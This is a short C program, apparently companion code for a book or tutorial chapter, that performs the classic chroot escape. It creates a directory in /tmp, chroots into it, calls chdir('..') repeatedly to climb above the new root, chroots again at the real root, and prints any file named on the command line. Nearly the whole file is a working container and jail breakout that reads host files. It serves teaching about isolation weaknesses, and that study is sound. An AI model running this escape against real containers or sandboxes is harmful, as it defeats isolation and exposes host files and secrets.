// Chapter 01's chroot escape (escape.ts), in C: a container has no
// node, but it can run a static binary. Usage: escape FILE — climb out
// of the current root and print FILE as seen from wherever we land.
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: escape FILE\n"); return 2; }
  // #region escape-c
  // In /tmp: root in a user namespace may not write to the image's /.
  mkdir("/tmp/.escape", 0700);
  if (chroot("/tmp/.escape") < 0) { perror("escape: chroot"); return 1; }
  for (int i = 0; i < 64; i++) chdir("..");  // our cwd is above the root
  if (chroot(".") < 0) { perror("escape: chroot ."); return 1; }
  // #endregion
  FILE *f = fopen(argv[1], "r");
  if (!f) { perror(argv[1]); return 1; }
  char buf[4096];
  size_t n;
  while ((n = fread(buf, 1, sizeof buf, f)) > 0) fwrite(buf, 1, n, stdout);
  return 0;
}
